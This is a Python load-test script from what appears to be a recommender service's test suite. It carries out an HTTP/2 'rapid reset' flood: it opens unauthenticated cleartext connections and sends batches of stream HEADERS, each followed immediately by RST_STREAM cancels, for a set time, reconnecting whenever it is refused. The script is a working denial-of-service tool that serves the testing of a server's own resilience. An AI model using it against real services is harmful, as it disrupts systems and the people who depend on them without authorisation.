"""A caller without a token that begins calls and resets them at once, as fast as it can.

`python -m tests.load.rapid_reset TARGET SECONDS` prints how many streams it began, and on how many
connections, another one whenever it is turned away.
"""

from __future__ import annotations

import argparse
import contextlib
import select
import time
from dataclasses import dataclass
from typing import NamedTuple

from tests import http2

RECOMMEND = "/recsys.retriever.v1.RetrieverService/Recommend"
# Streams that are sent with one write.
_TOGETHER = 50


@dataclass(frozen=True)
class Attack:
    """What to do, to "HOST:PORT" without TLS: for so long, so many connections in turn."""

    target: str
    seconds: float
    method: str = RECOMMEND
    connections: int = 1

    def run(self) -> Done:
        """Do it; returns what was done."""
        end = time.monotonic() + self.seconds
        with contextlib.ExitStack() as stack:
            attackers = [
                stack.enter_context(contextlib.closing(_Attacker(self.target, self.method)))
                for _ in range(self.connections)
            ]
            while time.monotonic() < end:
                for attacker in attackers:
                    attacker.strike()
        return Done(
            sum(attacker.streams for attacker in attackers),
            sum(attacker.connections for attacker in attackers),
        )


class Done(NamedTuple):
    """How many streams were begun, and on how many connections."""

    streams: int
    connections: int


class _Attacker:
    """One connection, and another one when it is turned away."""

    def __init__(self, target: str, method: str) -> None:
        self.streams = self.connections = 0
        self._target = target
        self._block = http2.headers(method)
        self._connection: http2.Connection | None = None
        self._next = 1

    def strike(self) -> None:
        """Begin and reset some streams, and read what has come."""
        try:
            if self._connection is None:
                self._connection = http2.Connection(self._target, seconds=1)
                self.connections += 1
                self._next = 1
            connection = self._connection.socket
            numbers = range(self._next, self._next + 2 * _TOGETHER, 2)
            connection.sendall(b"".join(map(self._reset, numbers)))
            self._next = numbers.stop
            self.streams += _TOGETHER
            # Pings are answered, and a server that waits for its reader doesn't wait for this one.
            while select.select([connection], [], [], 0)[0]:
                if not self._connection.take():
                    self.close()
                    return
        except OSError:
            self.close()

    def _reset(self, stream: int) -> bytes:
        return http2.frame(http2.HEADERS, http2.END_HEADERS, stream, self._block) + http2.frame(
            http2.RST_STREAM, 0, stream, http2.CANCEL
        )

    def close(self) -> None:
        """Leave."""
        if self._connection is not None:
            self._connection.socket.close()
            self._connection = None


def main() -> None:
    """See above."""
    parser = argparse.ArgumentParser(prog="python -m tests.load.rapid_reset", description=__doc__)
    parser.add_argument("target", help="HOST:PORT without TLS")
    parser.add_argument("seconds", type=float)
    parser.add_argument("--method", default=RECOMMEND, help="whatever it is, without a token")
    parser.add_argument("--connections", type=int, default=1, help="at the same time")
    options = parser.parse_args()
    print("begins", flush=True)
    done = Attack(options.target, options.seconds, options.method, options.connections).run()
    print(f"{done.streams} streams on {done.connections} connections")


if __name__ == "__main__":
    main()
